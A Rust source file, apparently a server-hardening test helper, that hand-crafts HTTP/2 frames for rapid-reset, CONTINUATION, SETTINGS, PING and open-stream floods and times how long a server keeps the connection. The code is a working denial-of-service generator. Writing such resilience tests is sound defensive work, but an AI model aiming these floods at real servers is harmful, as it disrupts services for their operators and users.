//! Floods of HTTP/2 frames, as attackers send them; written by hand, as no proper client does this.
use std::{
    io::{Read, Result, Write},
    net::{Shutdown, SocketAddr, TcpStream},
    sync::mpsc,
    time::{Duration, Instant},
};

/// What is sent again and again.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Requests that are taken back at once.
    RapidReset,
    /// One head of a request that never ends.
    Continuation,
    /// Settings, each of which wants to be acknowledged.
    Settings,
    /// Pings, each of which wants an answer.
    Ping,
    /// Requests whose bodies never come.
    Streams,
}

/// All of them.
pub const FLOODS: [Flood; 5] = [Flood::RapidReset, Flood::Continuation, Flood::Settings, Flood::Ping, Flood::Streams];

/// `GET /` of the host `x`, as HPACK writes it.
const HEAD: [u8; 6] = [0x82, 0x86, 0x84, 0x41, 1, b'x'];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [head.as_slice(), payload].concat()
}

impl Flood {
    fn begin(self) -> Vec<u8> {
        let mut begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        begin.extend(frame(4, 0, 0, &[]));
        if self == Self::Continuation {
            begin.extend(frame(1, 1, 1, &HEAD));
        }
        begin
    }

    fn next(self, n: u32) -> Vec<u8> {
        let stream = 2 * n + 1;
        match self {
            Self::RapidReset => [frame(1, 5, stream, &HEAD), frame(3, 0, stream, &8_u32.to_be_bytes())].concat(),
            Self::Continuation => {
                let header = [&[0, 1, b'a', 100][..], &[b'v'; 100]].concat();
                frame(9, 0, 1, &header.repeat(10))
            }
            Self::Settings => frame(4, 0, 0, &[]),
            Self::Ping => frame(6, 0, 0, &[7; 8]),
            Self::Streams => frame(1, 4, stream, &HEAD),
        }
    }

    /// Sends so many of them as fast as they are taken, reading what comes back; how long the server
    /// kept the connection, none when it still did after `patience`.
    ///
    /// # Errors
    /// When there is no connection at all.
    pub fn send(self, server: SocketAddr, times: u32, patience: Duration) -> Result<Option<Duration>> {
        let mut stream = TcpStream::connect(server)?;
        stream.set_nodelay(true)?;
        let (mut reading, (tell, told), started) = (stream.try_clone()?, mpsc::channel(), Instant::now());
        let reader = std::thread::spawn(move || {
            let mut taken = [0; 16 << 10];
            while reading.read(&mut taken).is_ok_and(|read| read > 0) {}
            tell.send(started.elapsed())
        });
        let mut sent = stream.write_all(&self.begin());
        for first in (0..times).step_by(100) {
            let some: Vec<u8> = (first..times.min(first + 100)).flat_map(|n| self.next(n)).collect();
            sent = sent.and_then(|()| stream.write_all(&some));
        }
        let closed = told.recv_timeout(patience).ok();
        let _ = stream.shutdown(Shutdown::Both);
        let _ = reader.join();
        Ok(closed)
    }
}
